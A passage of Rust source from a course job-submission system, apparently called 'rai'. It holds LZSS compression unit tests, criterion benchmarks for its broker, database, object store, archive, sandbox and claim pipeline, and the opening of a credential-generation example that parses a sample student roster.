    }

    #[test]
    fn incompressible_input_round_trips() {
        // Pseudo-random bytes (xorshift) — may expand slightly, must round-trip.
        let mut x = 0x12345678u32;
        let data: Vec<u8> = (0..10_000)
            .map(|_| {
                x ^= x << 13;
                x ^= x >> 17;
                x ^= x << 5;
                x as u8
            })
            .collect();
        assert_eq!(round_trip(&data), data);
    }

    #[test]
    fn long_runs_use_max_matches() {
        let data = vec![0u8; 100_000];
        let c = compress(&data);
        assert_eq!(decompress(&c).unwrap(), data);
        // With 18-byte max matches the floor is ~2.25 bytes per 18 input
        // bytes (1/8 flag overhead): expect better than 8x.
        assert!(
            c.len() < data.len() / 8,
            "run-length case compressed to {}",
            c.len()
        );
    }

    #[test]
    fn overlapping_match_self_reference() {
        // "abcabcabc…" forces matches that overlap their own output.
        let data: Vec<u8> = b"abc".iter().cycle().take(1000).copied().collect();
        assert_eq!(round_trip(&data), data);
    }

    #[test]
    fn rejects_bad_magic() {
        assert_eq!(decompress(b"NOPE!"), Err(LzssError::BadHeader));
        assert_eq!(decompress(b"RAIZ"), Err(LzssError::BadHeader));
    }

    #[test]
    fn rejects_truncation() {
        let c = compress(b"hello hello hello hello");
        for cut in [c.len() - 1, c.len() / 2, MAGIC.len() + 8] {
            let err = decompress(&c[..cut]).unwrap_err();
            assert!(
                matches!(err, LzssError::Truncated | LzssError::LengthMismatch { .. }),
                "cut at {cut}: {err:?}"
            );
        }
    }

    #[test]
    fn rejects_bad_distance() {
        // Header claiming 3 bytes, then a match token with distance 1 at
        // output position 0.
        let mut s = Vec::new();
        s.extend_from_slice(MAGIC);
        s.extend_from_slice(&3u64.to_le_bytes());
        s.push(0b0000_0000); // first token is a match
        s.extend_from_slice(&0u16.to_le_bytes()); // dist=1, len=3 at pos 0
        assert_eq!(decompress(&s), Err(LzssError::BadDistance));
    }

    #[test]
    fn window_boundary() {
        // Repeat with period exactly WINDOW: matches at max distance.
        let unit: Vec<u8> = (0..WINDOW).map(|i| (i % 251) as u8).collect();
        let mut data = unit.clone();
        data.extend_from_slice(&unit);
        assert_eq!(round_trip(&data), data);
    }
}
