//! End-to-end submission latency: the full client → store → broker →
//! worker → container → database pipeline per job, the number that
//! bounds how "interactive" the paper's response time can be.

use criterion::{criterion_group, criterion_main, Criterion};
use rai_core::client::ProjectDir;
use rai_core::{RaiSystem, SystemConfig};

fn bench_end_to_end(c: &mut Criterion) {
    let mut g = c.benchmark_group("e2e");
    g.sample_size(30);

    g.bench_function("dev_run_submission", |b| {
        let mut system = RaiSystem::new(SystemConfig {
            rate_limit: None,
            ..Default::default()
        });
        let creds = system.register_team("bench", &[]);
        let project = ProjectDir::sample_cuda_project();
        // Warm the image cache so steady-state cost is measured.
        system.submit(&creds, &project).expect("warm-up");
        b.iter(|| {
            let receipt = system.submit(&creds, &project).expect("submission");
            assert!(receipt.success);
        });
    });

    g.bench_function("final_submission_with_ranking", |b| {
        let mut system = RaiSystem::new(SystemConfig {
            rate_limit: None,
            ..Default::default()
        });
        let creds = system.register_team("bench", &[]);
        let project = ProjectDir::sample_cuda_project().with_final_artifacts();
        system.submit_final(&creds, &project).expect("warm-up");
        b.iter(|| {
            let receipt = system.submit_final(&creds, &project).expect("submission");
            assert!(receipt.success);
        });
    });

    g.finish();
}

criterion_group!(benches, bench_end_to_end);
criterion_main!(benches);
