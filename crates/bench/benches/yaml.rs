//! Build-file parsing benchmarks: the Listing 1 file and a large
//! student-authored variant.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use rai_core::spec::{BuildSpec, DEFAULT_BUILD_YML};

fn big_student_file() -> String {
    let mut s = String::from("rai:\n  version: 0.1\n  image: webgpu/rai:root\nresources:\n  gpus: 1\ncommands:\n  build:\n");
    for i in 0..200 {
        s.push_str(&format!("    - echo step {i} of a very long experiment script\n"));
    }
    s
}

fn bench_parse(c: &mut Criterion) {
    let mut g = c.benchmark_group("yaml/parse");
    g.throughput(Throughput::Bytes(DEFAULT_BUILD_YML.len() as u64));
    g.bench_function("listing1_default", |b| {
        b.iter(|| rai_yaml::parse(DEFAULT_BUILD_YML).expect("valid"));
    });
    let big = big_student_file();
    g.throughput(Throughput::Bytes(big.len() as u64));
    g.bench_function("student_200_commands", |b| {
        b.iter(|| rai_yaml::parse(&big).expect("valid"));
    });
    g.finish();
}

fn bench_spec_validation(c: &mut Criterion) {
    c.bench_function("yaml/build_spec_parse_validate", |b| {
        b.iter(|| BuildSpec::parse(DEFAULT_BUILD_YML).expect("valid"));
    });
}

fn bench_emit(c: &mut Criterion) {
    c.bench_function("yaml/emit_round_trip", |b| {
        let doc = rai_yaml::parse(DEFAULT_BUILD_YML).expect("valid");
        b.iter(|| {
            let text = rai_yaml::to_string(&doc);
            criterion::black_box(text.len())
        });
    });
}

criterion_group!(benches, bench_parse, bench_spec_validation, bench_emit);
criterion_main!(benches);
