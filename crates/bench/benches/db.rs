//! Document-database micro-benchmarks, including the index ablation
//! called out in DESIGN.md: the ranking range query with and without a
//! secondary index.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use rai_db::{doc, Collection, FindOptions};

fn seeded_collection(n: usize, indexed: bool) -> Collection {
    let mut c = Collection::new();
    for i in 0..n {
        c.insert_one(doc! {
            "team" => format!("team-{i:04}"),
            "runtime_secs" => 0.3 + (i as f64 * 7.31) % 120.0,
            "final" => i % 3 == 0,
        });
    }
    if indexed {
        c.create_index("runtime_secs");
        c.create_index("team");
    }
    c
}

fn bench_insert(c: &mut Criterion) {
    c.bench_function("db/insert_one", |b| {
        let mut coll = Collection::new();
        let mut i = 0u64;
        b.iter(|| {
            i += 1;
            coll.insert_one(doc! { "job_id" => i, "team" => "t", "secs" => 0.5 });
        });
    });
}

fn bench_query_index_ablation(c: &mut Criterion) {
    let mut g = c.benchmark_group("db/range_query");
    for &n in &[1_000usize, 10_000] {
        for (label, indexed) in [("scan", false), ("indexed", true)] {
            let coll = seeded_collection(n, indexed);
            g.bench_with_input(
                BenchmarkId::new(label, n),
                &coll,
                |b, coll| {
                    b.iter(|| {
                        let fast = coll.find(&doc! { "runtime_secs" => doc!{ "$lt" => 1.0 } });
                        criterion::black_box(fast.len())
                    });
                },
            );
        }
    }
    g.finish();
}

fn bench_point_lookup(c: &mut Criterion) {
    let mut g = c.benchmark_group("db/point_lookup");
    for (label, indexed) in [("scan", false), ("indexed", true)] {
        let coll = seeded_collection(10_000, indexed);
        g.bench_function(label, |b| {
            b.iter(|| coll.find_one(&doc! { "team" => "team-7777" }).expect("exists"));
        });
    }
    g.finish();
}

fn bench_leaderboard_sort(c: &mut Criterion) {
    c.bench_function("db/leaderboard_sort_limit", |b| {
        let coll = seeded_collection(5_000, true);
        b.iter(|| {
            let top = coll.find_with(&doc! {}, &FindOptions::sort_asc("runtime_secs").limit(30));
            assert_eq!(top.len(), 30);
        });
    });
}

fn bench_ranking_upsert(c: &mut Criterion) {
    c.bench_function("db/ranking_upsert_overwrite", |b| {
        let mut coll = seeded_collection(1_000, true);
        let mut secs = 1.0f64;
        b.iter(|| {
            secs *= 0.999;
            coll.update_one(
                &doc! { "team" => "team-0500" },
                &doc! { "$set" => doc!{ "runtime_secs" => secs } },
                true,
            )
        });
    });
}

fn bench_aggregation(c: &mut Criterion) {
    c.bench_function("db/aggregate_group_by_team", |b| {
        let coll = seeded_collection(5_000, false);
        use rai_db::aggregate::{aggregate, Accumulator, Stage};
        b.iter(|| {
            let rows = aggregate(
                &coll,
                &[
                    Stage::Match(doc! { "final" => true }),
                    Stage::Group {
                        by: Some("final".into()),
                        fields: vec![
                            ("n".into(), Accumulator::Count),
                            ("avg".into(), Accumulator::Avg("runtime_secs".into())),
                        ],
                    },
                ],
            );
            criterion::black_box(rows.len())
        });
    });
}

fn bench_find_with_ablation(c: &mut Criterion) {
    let mut g = c.benchmark_group("db/find_with_sort_limit");
    // The standings query shape: filter + sort + limit. With the index
    // the sort is served in key order with early exit; without it the
    // matching set is materialised and sorted.
    for (label, indexed) in [("scan", false), ("indexed", true)] {
        let coll = seeded_collection(10_000, indexed);
        g.bench_function(label, |b| {
            let opts = FindOptions::sort_asc("runtime_secs").limit(30);
            b.iter(|| {
                let top = coll.find_with(&doc! {}, &opts);
                assert_eq!(top.len(), 30);
            });
        });
    }
    g.finish();
}

criterion_group!(
    benches,
    bench_insert,
    bench_aggregation,
    bench_query_index_ablation,
    bench_point_lookup,
    bench_leaderboard_sort,
    bench_find_with_ablation,
    bench_ranking_upsert
);
criterion_main!(benches);
