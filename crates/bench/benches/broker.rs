//! Broker micro-benchmarks: publish throughput, pub/sub round trips,
//! per-channel fan-out — the data plane under the Fig. 4 burst load.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use rai_broker::Broker;

fn bench_publish(c: &mut Criterion) {
    let mut g = c.benchmark_group("broker/publish");
    g.throughput(Throughput::Elements(1));
    g.bench_function("single_channel", |b| {
        let broker = Broker::default();
        let sub = broker.subscribe("t", "ch");
        b.iter(|| {
            broker.publish("t", &b"job message"[..]).expect("publish");
            let m = sub.try_recv().expect("delivered");
            sub.ack(m.id);
        });
    });
    g.finish();
}

fn bench_round_trip(c: &mut Criterion) {
    c.bench_function("broker/pub_sub_ack_round_trip", |b| {
        let broker = Broker::default();
        let sub = broker.subscribe("rai", "tasks");
        b.iter(|| {
            broker.publish("rai", &b"x"[..]).expect("publish");
            let m = sub.try_recv().expect("message");
            assert!(sub.ack(m.id));
        });
    });
}

fn bench_fanout(c: &mut Criterion) {
    let mut g = c.benchmark_group("broker/fanout");
    for channels in [1usize, 4, 16] {
        g.throughput(Throughput::Elements(channels as u64));
        g.bench_with_input(BenchmarkId::from_parameter(channels), &channels, |b, &n| {
            let broker = Broker::default();
            let subs: Vec<_> = (0..n)
                .map(|i| broker.subscribe("t", &format!("ch{i}")))
                .collect();
            b.iter(|| {
                broker.publish("t", &b"fanout"[..]).expect("publish");
                for s in &subs {
                    let m = s.try_recv().expect("copy per channel");
                    s.ack(m.id);
                }
            });
        });
    }
    g.finish();
}

fn bench_ephemeral_lifecycle(c: &mut Criterion) {
    c.bench_function("broker/ephemeral_topic_create_drop", |b| {
        let broker = Broker::default();
        let mut id = 0u64;
        b.iter(|| {
            id += 1;
            let topic = format!("log_{id:08x}");
            let sub = broker.subscribe_ephemeral(&topic, "#ch");
            broker.publish_ephemeral(&topic, &b"end ok"[..]).expect("publish");
            let m = sub.try_recv().expect("message");
            sub.ack(m.id);
            drop(sub);
        });
    });
}

fn bench_reclaim(c: &mut Criterion) {
    c.bench_function("broker/reclaim_expired_scan_1k_in_flight", |b| {
        let broker = Broker::default();
        let sub = broker.subscribe("t", "ch");
        for i in 0..1000 {
            broker.publish("t", format!("{i}")).expect("publish");
        }
        while sub.try_recv().is_some() {}
        b.iter(|| {
            // Nothing is old enough: pure scan cost over 1k in-flight.
            assert_eq!(broker.reclaim_expired(rai_sim::SimDuration::from_hours(1)), 0);
        });
    });
}

criterion_group!(
    benches,
    bench_publish,
    bench_round_trip,
    bench_fanout,
    bench_ephemeral_lifecycle,
    bench_reclaim
);
criterion_main!(benches);
