//! Archive micro-benchmarks: the pack/unpack path every submission
//! takes, plus the compress-vs-store-raw ablation from DESIGN.md.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use rai_archive::{lzss, pack, unpack, FileTree};

/// A synthetic project tree of roughly `kb` KiB of source-like text.
fn project_tree(kb: usize) -> FileTree {
    let unit = "__global__ void conv(float* y, const float* x) { y[threadIdx.x] = x[threadIdx.x]; }\n";
    let per_file = unit.repeat(kb.max(1) * 1024 / unit.len() / 4 + 1);
    let mut t = FileTree::new();
    for i in 0..4 {
        t.insert(&format!("src/kernel{i}.cu"), per_file.clone().into_bytes())
            .expect("static path");
    }
    t.insert("rai-build.yml", &b"rai:\n  version: 0.1\n  image: webgpu/rai:root\ncommands:\n  build:\n    - make\n"[..])
        .expect("static path");
    t
}

fn bench_pack_unpack(c: &mut Criterion) {
    let mut g = c.benchmark_group("archive/pack_unpack");
    for kb in [16usize, 256, 2048] {
        let tree = project_tree(kb);
        g.throughput(Throughput::Bytes(tree.total_size()));
        g.bench_with_input(BenchmarkId::new("pack", kb), &tree, |b, t| {
            b.iter(|| pack(t));
        });
        let bundle = pack(&tree);
        g.bench_with_input(BenchmarkId::new("unpack", kb), &bundle.bytes, |b, bytes| {
            b.iter(|| unpack(bytes).expect("valid bundle"));
        });
    }
    g.finish();
}

fn bench_lzss(c: &mut Criterion) {
    let mut g = c.benchmark_group("archive/lzss");
    let source = project_tree(512);
    let container = {
        let b = pack(&source);
        lzss::decompress(&b.bytes).expect("round trip")
    };
    g.throughput(Throughput::Bytes(container.len() as u64));
    g.bench_function("compress", |b| {
        b.iter(|| lzss::compress(&container));
    });
    let compressed = lzss::compress(&container);
    g.bench_function("decompress", |b| {
        b.iter(|| lzss::decompress(&compressed).expect("valid"));
    });
    g.finish();
    println!(
        "lzss ratio on project trees: {:.3} ({} -> {} bytes)",
        lzss::ratio(&container, &compressed),
        container.len(),
        compressed.len()
    );
}

fn bench_chunker(c: &mut Criterion) {
    use rai_archive::chunk::{chunk_bytes, ChunkerParams};
    let mut g = c.benchmark_group("archive/chunker");
    // Pseudorandom bytes (worst case: boundaries everywhere the mask
    // allows) and repetitive project text (long forced-max chunks).
    let mut state = 0x5EEDu64;
    let random: Vec<u8> = (0..1 << 20)
        .map(|_| {
            state = state
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            (state >> 33) as u8
        })
        .collect();
    let text = "__global__ void conv(float* y, const float* x) { y[threadIdx.x] = x[threadIdx.x]; }\n"
        .repeat(12_000)
        .into_bytes();
    for (label, buf) in [("random_1mib", &random), ("text_1mib", &text)] {
        g.throughput(Throughput::Bytes(buf.len() as u64));
        g.bench_with_input(BenchmarkId::from_parameter(label), buf, |b, buf| {
            b.iter(|| chunk_bytes(buf, ChunkerParams::DEFAULT));
        });
    }
    g.finish();
}

criterion_group!(benches, bench_pack_unpack, bench_lzss, bench_chunker);
criterion_main!(benches);
