//! `rai-exec` micro-benchmarks: ordered `par_map` against the plain
//! sequential map on the chunker workload it actually offloads —
//! content-defined chunking + FNV digesting of multi-MiB payloads.
//!
//! On a single-core host the pool adds only dispatch overhead (the
//! interesting number is how small that overhead is); on a multi-core
//! host the `pool*` rows should approach the width-fold speedup.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use rai_archive::chunk::{chunk_bytes, chunk_bytes_on, ChunkerParams};
use rai_exec::Executor;

/// Deterministic pseudorandom payload, same generator as the reports.
fn synthetic_buffer(len: usize) -> Vec<u8> {
    let mut state = 0x5EEDu64;
    (0..len)
        .map(|_| {
            state = state
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            (state >> 33) as u8
        })
        .collect()
}

fn bench_chunker_offload(c: &mut Criterion) {
    let mut g = c.benchmark_group("exec/chunker");
    let buf = synthetic_buffer(4 << 20);
    g.throughput(Throughput::Bytes(buf.len() as u64));
    g.bench_with_input(BenchmarkId::new("sequential", "4MiB"), &buf, |b, data| {
        b.iter(|| chunk_bytes(data, ChunkerParams::DEFAULT));
    });
    for width in [2usize, 4, 8] {
        let exec = Executor::new(width);
        g.bench_with_input(
            BenchmarkId::new("pool", format!("4MiB/w{width}")),
            &buf,
            |b, data| {
                b.iter(|| chunk_bytes_on(&exec, data, ChunkerParams::DEFAULT));
            },
        );
    }
    g.finish();
}

fn bench_par_map_overhead(c: &mut Criterion) {
    // Many small pure tasks: the per-job dispatch + ordered-join cost.
    let mut g = c.benchmark_group("exec/par_map");
    let items: Vec<u64> = (0..256).collect();
    let work = |x: u64| {
        let mut acc = x;
        for i in 0..2_000u64 {
            acc = acc.wrapping_mul(6364136223846793005).wrapping_add(i);
        }
        acc
    };
    g.bench_function("sequential_map", |b| {
        b.iter(|| items.iter().map(|&x| work(x)).collect::<Vec<_>>());
    });
    for width in [1usize, 4] {
        let exec = Executor::new(width);
        g.bench_function(BenchmarkId::new("pool", format!("w{width}")), |b| {
            b.iter(|| exec.par_map(items.clone(), work));
        });
    }
    g.finish();
}

criterion_group!(benches, bench_chunker_offload, bench_par_map_overhead);
criterion_main!(benches);
