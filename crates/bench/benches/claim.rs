//! Claim-pipeline micro-benchmarks (DESIGN.md §17): the cost of one
//! multi-topic batch-claim round at 1 vs 8 claim lanes, and the
//! digest-cache hit path probed through striped read locks (the
//! `DigestCache` shape) vs a single exclusive mutex (the pre-§17
//! shape). On a single-core host the lane numbers converge — the
//! point of the batch-claim bench is the overhead ceiling of the
//! fan-out machinery, which must stay small enough that `perf_report`
//! can arm its `claim_speedup_at_4` floor on real multi-core hosts.

use std::collections::HashSet;
use std::sync::atomic::{AtomicU64, Ordering};

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use parking_lot::{Mutex, RwLock};
use rai_core::client::ProjectDir;
use rai_core::worker::PoppedTask;
use rai_core::{DeltaUploader, RaiSystem, SubmitMode, SystemConfig};
use rai_sim::VirtualClock;
use rai_store::{LifecycleRule, ObjectStore};

const CLAIM_WORKERS: usize = 8;

/// A deployment with one queued job per worker, each on its own log
/// topic (distinct job ids), ready for exactly one claim round.
fn queued_system(claim_lanes: usize) -> RaiSystem {
    let mut system = RaiSystem::new(SystemConfig {
        workers: CLAIM_WORKERS,
        parallelism: 4,
        claim_lanes,
        rate_limit: None,
        ..Default::default()
    });
    for i in 0..CLAIM_WORKERS {
        let creds = system.register_team(&format!("bench-{i:02}"), &[]);
        let project =
            ProjectDir::cuda_project_with_perf(250.0 + i as f64 * 9.7, 0.9, 512 + i as u64);
        system
            .client_for(&creds)
            .begin_submit(&project, SubmitMode::Run)
            .expect("queue claim job");
    }
    system
}

/// One claim round: the serial order-defining pop half over every
/// worker, then the claim tails — serial at 1 lane, fanned across the
/// `rai-exec` pool keyed by log-topic hash at 8.
fn claim_round(system: &mut RaiSystem) -> usize {
    let popped: Vec<(usize, PoppedTask)> = (0..CLAIM_WORKERS)
        .filter_map(|wi| system.workers_mut()[wi].pop_task().map(|p| (wi, p)))
        .collect();
    let claims = system.claim_tasks(popped);
    assert_eq!(claims.len(), CLAIM_WORKERS, "every queued job claimed");
    claims.len()
}

fn bench_batch_claim(c: &mut Criterion) {
    let mut g = c.benchmark_group("claim/batch_claim");
    g.sample_size(20);
    for lanes in [1usize, 8] {
        g.bench_with_input(BenchmarkId::from_parameter(lanes), &lanes, |b, &lanes| {
            b.iter_with_setup(|| queued_system(lanes), |mut system| claim_round(&mut system));
        });
    }
    g.finish();
}

/// Mirror of `DigestCache`'s stripe fan (delta.rs): FNV-mixed digest
/// to one of 16 read-write-locked sets. Readers share the stripe.
struct StripedSet {
    stripes: Vec<RwLock<HashSet<u64>>>,
}

impl StripedSet {
    fn new() -> Self {
        StripedSet { stripes: (0..16).map(|_| RwLock::new(HashSet::new())).collect() }
    }

    fn stripe_of(&self, digest: u64) -> usize {
        (digest.wrapping_mul(0x100000001b3) >> 32) as usize % self.stripes.len()
    }

    fn insert(&self, digest: u64) {
        self.stripes[self.stripe_of(digest)].write().insert(digest);
    }

    fn contains(&self, digest: u64) -> bool {
        self.stripes[self.stripe_of(digest)].read().contains(&digest)
    }
}

const PROBE_THREADS: usize = 4;
const PROBE_ROUNDS: usize = 64;

fn probe_digests(len: usize) -> Vec<u64> {
    let mut state = 0x9e3779b97f4a7c15u64;
    (0..len)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state
        })
        .collect()
}

fn bench_digest_cache_hit(c: &mut Criterion) {
    let digests = probe_digests(256);
    let mut g = c.benchmark_group("claim/digest_cache_hit");
    g.sample_size(30);

    // The §17 shape: concurrent hit probes share striped read locks.
    g.bench_function("striped_rwlock", |b| {
        let cache = StripedSet::new();
        for &d in &digests {
            cache.insert(d);
        }
        b.iter(|| {
            let hits = AtomicU64::new(0);
            std::thread::scope(|scope| {
                for _ in 0..PROBE_THREADS {
                    scope.spawn(|| {
                        let mut local = 0u64;
                        for _ in 0..PROBE_ROUNDS {
                            for &d in &digests {
                                local += u64::from(cache.contains(d));
                            }
                        }
                        hits.fetch_add(local, Ordering::Relaxed);
                    });
                }
            });
            let total = hits.load(Ordering::Relaxed);
            assert_eq!(total, (PROBE_THREADS * PROBE_ROUNDS * digests.len()) as u64);
            total
        });
    });

    // The pre-§17 shape: every probe serializes on one exclusive lock.
    g.bench_function("single_mutex", |b| {
        let cache = Mutex::new(digests.iter().copied().collect::<HashSet<u64>>());
        b.iter(|| {
            let hits = AtomicU64::new(0);
            std::thread::scope(|scope| {
                for _ in 0..PROBE_THREADS {
                    scope.spawn(|| {
                        let mut local = 0u64;
                        for _ in 0..PROBE_ROUNDS {
                            for &d in &digests {
                                local += u64::from(cache.lock().contains(&d));
                            }
                        }
                        hits.fetch_add(local, Ordering::Relaxed);
                    });
                }
            });
            let total = hits.load(Ordering::Relaxed);
            assert_eq!(total, (PROBE_THREADS * PROBE_ROUNDS * digests.len()) as u64);
            total
        });
    });

    // End-to-end hit path through the real memoized uploader: a warmed
    // `DeltaUploader` re-uploading identical content sends zero chunks,
    // answering every probe from the generation-stamped cache.
    g.bench_function("warm_upload_prepared", |b| {
        let store = ObjectStore::new(VirtualClock::new());
        store.create_bucket("b", LifecycleRule::Keep).expect("bucket");
        let uploader = DeltaUploader::new();
        let payload: Vec<u8> = probe_digests(4096).iter().flat_map(|d| d.to_le_bytes()).collect();
        uploader.upload(&store, "b", "warm", &payload, []).expect("warm upload");
        let mut key = 0u64;
        b.iter(|| {
            key += 1;
            let receipt = uploader
                .upload(&store, "b", &format!("k{key}"), &payload, [])
                .expect("cached upload");
            assert_eq!(receipt.chunks_sent, 0, "warm path re-uses every chunk");
            receipt.chunks_total
        });
    });

    g.finish();
}

criterion_group!(benches, bench_batch_claim, bench_digest_cache_hit);
criterion_main!(benches);
