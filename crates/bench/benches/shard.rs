//! Lock-domain sharding micro-benchmarks (DESIGN.md §16): the chunk
//! arena under concurrent `put_delta` load at one lock vs eight, and
//! the hash-partitioned collection's covering `find_with` k-way merge.
//! Results are host facts (they move with core count and scheduling);
//! the byte-identity story lives in the workload proptests, not here.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use rai_archive::chunk::{chunk_bytes, Chunk, ChunkManifest, ChunkerParams};
use rai_db::{doc, Collection, FindOptions};
use rai_sim::VirtualClock;
use rai_store::{LifecycleRule, ObjectStore};

fn varied(len: usize, seed: u64) -> Vec<u8> {
    let mut state = seed;
    (0..len)
        .map(|_| {
            state = state
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            (state >> 33) as u8
        })
        .collect()
}

/// Concurrent `put_delta` of distinct payloads: with one arena lock
/// every installer serializes on the refcount table; with shards the
/// installs only meet where their digests collide on a shard.
fn bench_sharded_put_delta(c: &mut Criterion) {
    const THREADS: usize = 4;
    const PER_THREAD: usize = 8;
    // Pre-chunk outside the measurement: the bench times the store's
    // admit → journal → install path, not the chunker.
    let uploads: Vec<(ChunkManifest, Vec<Chunk>)> = (0..THREADS * PER_THREAD)
        .map(|i| chunk_bytes(&varied(16 * 1024, i as u64 + 1), ChunkerParams::DEFAULT))
        .collect();
    let mut g = c.benchmark_group("store/sharded_put_delta");
    for shards in [1usize, 8] {
        g.bench_with_input(BenchmarkId::from_parameter(shards), &shards, |b, &shards| {
            b.iter_with_setup(
                || {
                    let s = ObjectStore::with_shards(VirtualClock::new(), shards);
                    s.create_bucket("b", LifecycleRule::one_month_after_last_use())
                        .expect("fresh store");
                    s
                },
                |s| {
                    std::thread::scope(|scope| {
                        for t in 0..THREADS {
                            let s = &s;
                            let slice = &uploads[t * PER_THREAD..(t + 1) * PER_THREAD];
                            scope.spawn(move || {
                                for (i, (manifest, chunks)) in slice.iter().enumerate() {
                                    s.put_delta("b", &format!("{t}/{i}"), manifest, chunks, [])
                                        .expect("delta put");
                                }
                            });
                        }
                    });
                    assert_eq!(s.usage().objects as usize, THREADS * PER_THREAD);
                },
            );
        });
    }
    g.finish();
}

fn seeded(shards: usize, n: usize) -> Collection {
    let mut coll = Collection::with_shards(shards);
    for i in 0..n {
        coll.insert_one(doc! {
            "team" => format!("team-{:04}", (i * 7919) % n),
            "runtime_secs" => 0.3 + (i as f64 * 7.31) % 120.0,
            "final" => i % 3 == 0,
        });
    }
    coll.create_index("team");
    coll.create_index("runtime_secs");
    coll
}

/// The covering `find_with` path: a sorted scan that the sharded
/// collection answers by k-way-merging per-shard secondary indexes.
fn bench_sharded_find_with(c: &mut Criterion) {
    let mut g = c.benchmark_group("db/sharded_find_with");
    for shards in [1usize, 8] {
        let coll = seeded(shards, 10_000);
        g.bench_with_input(BenchmarkId::from_parameter(shards), &coll, |b, coll| {
            let opts = FindOptions {
                limit: Some(100),
                ..FindOptions::sort_asc("team")
            };
            b.iter(|| {
                let top = coll.find_with(&doc! { "final" => true }, &opts);
                assert_eq!(top.len(), 100);
                criterion::black_box(top)
            });
        });
    }
    g.finish();
}

criterion_group!(benches, bench_sharded_put_delta, bench_sharded_find_with);
criterion_main!(benches);
