//! Object-store micro-benchmarks: put/get at submission-archive sizes
//! and the lifecycle sweep over a semester's worth of objects.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use rai_sim::{SimDuration, VirtualClock};
use rai_store::{LifecycleRule, ObjectStore};

fn store() -> ObjectStore {
    let s = ObjectStore::new(VirtualClock::new());
    s.create_bucket("b", LifecycleRule::one_month_after_last_use())
        .expect("fresh store");
    s
}

fn bench_put_get(c: &mut Criterion) {
    let mut g = c.benchmark_group("store/put_get");
    for kb in [4usize, 64, 1024] {
        let payload = vec![0xA5u8; kb * 1024];
        g.throughput(Throughput::Bytes((kb * 1024) as u64));
        g.bench_with_input(BenchmarkId::new("put", kb), &payload, |b, p| {
            let s = store();
            let mut i = 0u64;
            b.iter(|| {
                i += 1;
                s.put("b", &format!("k{i}"), p.clone(), []).expect("put");
            });
        });
        g.bench_with_input(BenchmarkId::new("get", kb), &payload, |b, p| {
            let s = store();
            s.put("b", "k", p.clone(), []).expect("put");
            b.iter(|| s.get("b", "k").expect("get"));
        });
    }
    g.finish();
}

fn bench_lifecycle_sweep(c: &mut Criterion) {
    let mut g = c.benchmark_group("store/lifecycle_sweep");
    for objects in [1_000usize, 10_000] {
        g.bench_with_input(BenchmarkId::from_parameter(objects), &objects, |b, &n| {
            b.iter_with_setup(
                || {
                    let s = store();
                    for i in 0..n {
                        s.put("b", &format!("team/{i}"), vec![0u8; 128], []).expect("put");
                    }
                    // Half the objects go stale.
                    s.clock().advance(SimDuration::from_days(31));
                    for i in 0..n / 2 {
                        s.get("b", &format!("team/{i}")).expect("refresh");
                    }
                    s
                },
                |s| {
                    let expired = s.sweep_lifecycle();
                    assert_eq!(expired as usize, n - n / 2);
                },
            );
        });
    }
    g.finish();
}

fn bench_list_prefix(c: &mut Criterion) {
    c.bench_function("store/list_prefix_10k", |b| {
        let s = store();
        for team in 0..100 {
            for j in 0..100 {
                s.put("b", &format!("team-{team:02}/{j}"), vec![0u8; 16], [])
                    .expect("put");
            }
        }
        b.iter(|| {
            let listed = s.list("b", "team-42/").expect("list");
            assert_eq!(listed.len(), 100);
        });
    });
}

fn bench_presign(c: &mut Criterion) {
    let s = store();
    s.put("b", "build.tar", vec![0u8; 1024], []).expect("put");
    let expires = rai_sim::SimTime::from_millis(u64::MAX / 2);
    c.bench_function("store/presign", |b| {
        b.iter(|| s.presign("b", "build.tar", expires));
    });
    let url = s.presign("b", "build.tar", expires);
    c.bench_function("store/get_presigned", |b| {
        b.iter(|| s.get_presigned(&url).expect("valid"));
    });
}

criterion_group!(benches, bench_put_get, bench_lifecycle_sweep, bench_list_prefix, bench_presign);
criterion_main!(benches);
