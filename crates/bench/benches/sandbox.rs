//! Container-runtime benchmarks: full Listing 1/2 scripts per
//! container, the per-job cost floor of the worker.

use criterion::{criterion_group, criterion_main, Criterion};
use rai_core::client::ProjectDir;
use rai_core::spec::BuildSpec;
use rai_sandbox::{Container, ImageRegistry, ResourceLimits};

fn bench_container_scripts(c: &mut Criterion) {
    let registry = ImageRegistry::course_default();
    let image = registry.resolve("webgpu/rai:root").expect("whitelisted").clone();
    let project = ProjectDir::sample_cuda_project();

    let mut g = c.benchmark_group("sandbox/container");
    g.bench_function("listing1_dev_build", |b| {
        let spec = BuildSpec::default_spec();
        b.iter(|| {
            let mut container = Container::create(&image, ResourceLimits::default());
            container.mount("/src", &project.tree);
            container.run_script(spec.build.iter().map(String::as_str));
            let report = container.destroy();
            assert!(report.success());
        });
    });
    g.bench_function("listing2_final_submission", |b| {
        let spec = BuildSpec::final_submission_spec();
        let final_project = ProjectDir::sample_cuda_project().with_final_artifacts();
        b.iter(|| {
            let mut container = Container::create(&image, ResourceLimits::default());
            container.mount("/src", &final_project.tree);
            container.run_script(spec.build.iter().map(String::as_str));
            let report = container.destroy();
            assert!(report.success());
        });
    });
    g.bench_function("create_destroy_only", |b| {
        b.iter(|| {
            let container = Container::create(&image, ResourceLimits::default());
            container.destroy()
        });
    });
    g.finish();
}

criterion_group!(benches, bench_container_scripts);
criterion_main!(benches);
