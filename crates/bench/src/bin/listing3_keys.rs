//! Regenerates **Listing 3**: the key-generation-and-delivery flow —
//! roster CSV in, per-student credentials out, templated e-mails
//! rendered.
//!
//! ```text
//! cargo run --release -p rai-bench --bin listing3_keys
//! ```

use rai_auth::{render_key_email, Credentials, KeyGenerator, Roster};

fn main() {
    let csv = "\
firstname,lastname,userid
Ada,Lovelace,alovelace
Alan,Turing,aturing
Grace,Hopper,ghopper
";
    let roster = Roster::parse(csv).expect("roster parses");
    let mut keygen = KeyGenerator::from_seed(2016);

